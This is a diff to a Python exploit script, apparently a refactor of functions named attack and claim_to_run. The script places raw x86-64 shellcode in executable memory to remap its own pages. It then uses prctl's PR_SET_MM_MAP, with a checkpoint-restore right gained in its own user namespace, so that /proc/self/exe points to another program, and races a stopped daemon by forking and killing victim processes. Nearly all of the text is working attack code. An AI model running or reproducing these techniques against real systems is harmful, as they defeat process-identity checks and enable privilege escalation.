@@ -93,7 +93,7 @@ def fields(stat):
 
 
 def asks_and_becomes(program, uid):
-    """While the daemon is stopped, a process connects and asks, leaves the connection to a child, and becomes `program`."""
+    """While the daemon is stopped, a process connects, asks, leaves the connection to a child, and becomes `program`."""
     stop()
     asker = os.fork()
     if asker == 0:
@@ -164,6 +164,7 @@ def attack(link, victim, at_once, stopped):
         s.close()
     for pid in victims:
         os.kill(pid, signal.SIGKILL)
+    for pid in victims:
         os.waitpid(pid, 0)
     os.close(ready)
     os.close(becomes_ready)
@@ -184,27 +185,29 @@ def attacks(python, victim, tries, seconds):
     print(*total)
 
 
-# A function of (program, copy, length): copies the program's pages and puts the copy where they were, before anything else
-# can run: rep movsb; mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, program).
+# A function of (program, copy, length): copies the program's pages and puts the copy where they were, before anything
+# else can run: rep movsb; mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, program).
 REPLACE = bytes.fromhex("4989f84889d1 4887fe 57 f3a4 5f 4889d6 41ba03000000 b819000000 0f05 c3")
 
 
 def claim_to_run(program):
-    """Lets /proc/self/exe lead to another program, by the right to restore checkpoints in the user namespace we made."""
+    """Lets /proc/self/exe lead to another program, by the right to restore checkpoints in a user namespace of our own."""
     own = os.readlink("/proc/self/exe")
     libc.mmap.restype = ctypes.c_void_p
     anonymous = lambda size, access: libc.mmap(None, ctypes.c_size_t(size), access, 0x22, -1, ctypes.c_size_t(0))
-    code = anonymous(4096, 7)
-    ctypes.memmove(code, REPLACE, len(REPLACE))
-    replace = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_size_t)(code)
+    machine_code = anonymous(4096, 7)
+    ctypes.memmove(machine_code, REPLACE, len(REPLACE))
+    replace = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_size_t)(machine_code)
     maps = [line.split() for line in open("/proc/self/maps")]
-    for span, access, *_ in (line for line in maps if line[-1] == own):
+    for span, *_ in (line for line in maps if line[-1] == own):
         start, end = (int(address, 16) for address in span.split("-"))
         copy = anonymous(end - start, 7)
         assert replace(start, copy, end - start) == start
     stat = fields("/proc/self/stat")
-    code_and_stack, others = [int(field) for field in stat[23:26]], [int(field) for field in stat[42:49]]
+    *code, stack = [int(field) for field in stat[23:26]]
+    *data_and_heap, arguments, arguments_end, variables, variables_end = [int(field) for field in stat[42:49]]
     libc.sbrk.restype = ctypes.c_void_p
-    program_file = os.open(program, os.O_RDONLY)
-    memory_map = struct.pack("12QII", *code_and_stack[:2], *others[:3], libc.sbrk(0), code_and_stack[2], *others[3:], 0, 0, program_file)
+    heap_end, file = libc.sbrk(0), os.open(program, os.O_RDONLY)
+    addresses = [*code, *data_and_heap, heap_end, stack, arguments, arguments_end, variables, variables_end]
+    memory_map = struct.pack("12QII", *addresses, 0, 0, file)
     assert libc.prctl(35, 14, memory_map, ctypes.c_ulong(len(memory_map)), 0) == 0
